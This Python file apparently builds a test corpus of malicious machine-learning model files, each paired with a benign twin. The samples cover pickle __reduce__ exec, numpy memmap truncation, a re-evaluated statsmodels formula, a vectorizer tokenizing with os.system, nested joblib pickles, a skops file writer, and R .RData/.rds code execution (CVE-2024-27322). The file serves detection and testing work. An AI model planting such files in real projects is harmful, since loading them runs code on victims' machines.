"""Files of the Python (and R) machine-learning libraries: estimators that act when used, formulas, sidecars, R workspaces."""
from __future__ import annotations

import io
import operator
import os
import pathlib
import pickle as std
import tempfile
import warnings

import joblib
import numpy
import pandas
import skops.io
from assembly import build, glob, model, new, pickle
from pair import CODE, SHELL
from sklearn.feature_extraction.text import TfidfVectorizer
from sklearn.preprocessing import FunctionTransformer
from thirteenth import rdata

FAMILY = "python-ml"


class Evil:
    def __reduce__(self):
        return exec, (CODE,)


def dumped(obj, name="model.joblib", **options) -> dict:
    with tempfile.TemporaryDirectory() as folder:
        joblib.dump(obj, os.path.join(folder, name), **options)
        return {p.name: p.read_bytes() for p in sorted(pathlib.Path(folder).iterdir())}


def formula(text: str, padded_to: int) -> bytes:
    import statsmodels.formula.api as smf

    x = numpy.arange(20.0)
    frame = pandas.DataFrame({"x": x, "y": 2 * x + numpy.cos(x)})
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return std.dumps(smf.ols("y ~ " + text.ljust(padded_to), frame).fit(), 4)


def add(out):
    def one(name, hostile, twin, why, prove=None, file="model.pkl"):
        out.add(FAMILY, name, hostile, twin, prove=prove, file=file, why=why)

    # numpy's own class, built by NEWOBJ: mode w+ creates or empties the file it names.
    array = numpy.linspace(0, 1, 16)
    mapped = new(glob("numpy", "memmap"), "marker", "uint8", "w+", 0, (16,))
    one("array_that_empties_a_file", pickle(model(mapped)), std.dumps({"epoch": 3, "extra": array, "name": "classifier"}, 4),
        "numpy.memmap in mode w+ truncates whatever file it is given, here on load.", prove="pickle")

    bad = "I(open('marker','w').close() or x)"
    good = formula("I(x * 1.0 + 0.0)", len(bad))
    evil = good.replace("I(x * 1.0 + 0.0)".ljust(len(bad)).encode(), bad.encode())
    assert len(evil) == len(good) and evil != good
    one("formula_evaluated_on_load", evil, good,
        "statsmodels evaluates the formula of a pickled result again when it is loaded; the formula opens a file for writing.",
        prove="pickle", file="ols_results.pickle")

    words = TfidfVectorizer(tokenizer=os.system, token_pattern=None, lowercase=False)
    texts = ["good film", "bad film", "long film"]
    twin = TfidfVectorizer(lowercase=False).fit(texts)
    words.__dict__.update({k: v for k, v in twin.__dict__.items() if k not in words.get_params()})
    one("vectorizer_splits_by_shell", std.dumps(words, 4), std.dumps(twin, 4),
        "The tokenizer of the vectorizer is os.system: each text to be classified is run as a command.",
        prove="x13.texts", file="tfidf.pkl")

    one("object_array_inside_joblib", dumped({"coef": numpy.ones(3), "classes": numpy.array([Evil(), "a"], dtype=object)}),
        dumped({"coef": numpy.ones(3), "classes": numpy.array(["b", "a"], dtype=object)}),
        "The inner pickle that joblib writes for an object array runs code; the outer one is clean.", prove="joblib")

    # joblib's legacy wrapper reads the file it names with numpy, objects allowed.
    buffer = io.BytesIO()
    numpy.save(buffer, numpy.array([Evil()], dtype=object), allow_pickle=True)
    plain = io.BytesIO()
    numpy.save(plain, numpy.arange(3.0))
    legacy = pickle(model(build(new(glob("joblib.numpy_pickle_compat", "NDArrayWrapper")),
                                {"filename": "NOTES.txt", "subclass": glob("numpy", "ndarray"), "allow_mmap": False})))
    one("legacy_wrapper_reads_a_text", {"model.pkl": legacy, "NOTES.txt": buffer.getvalue()},
        {"model.pkl": dumped({"coef": numpy.arange(3.0)}, "model.pkl")["model.pkl"], "NOTES.txt": "Trained on 2026-09-01.\n"},
        "A legacy array wrapper of joblib loads NOTES.txt, which is an object array that runs code.", prove="joblib")

    writer = FunctionTransformer(func=operator.methodcaller("to_csv", "marker"))
    one("skops_method_that_writes", skops.io.dumps(writer), skops.io.dumps(FunctionTransformer(func=numpy.log1p)),
        "A skops pipeline whose function is methodcaller('to_csv', path): transforming a frame writes it to a file of the sender's choice.",
        prove="x13.skops_frame", file="pipeline.skops")


    body = rdata.language("system", rdata.strings(SHELL))
    fit = rdata.named({"coefficients": rdata.reals(0.5, -1.25), "method": rdata.strings("lm")})
    one("workspace_with_first", rdata.workspace({"fit": fit, ".First": rdata.closure(body)}),
        rdata.workspace({"fit": fit, "note": rdata.strings("fitted in R 4.3.3")}),
        "R restores .RData of the working folder at start and calls the .First it holds: a closure that runs a command. Not run: no R here.",
        file=".RData")
    one("promise_in_a_list", rdata.rds(rdata.named({"coefficients": rdata.reals(0.5), "formula": rdata.promise(body)})), rdata.rds(fit),
        "CVE-2024-27322: a promise inside a list of an .rds file is evaluated when the element is read. Not run: no R here.",
        file="model.rds")
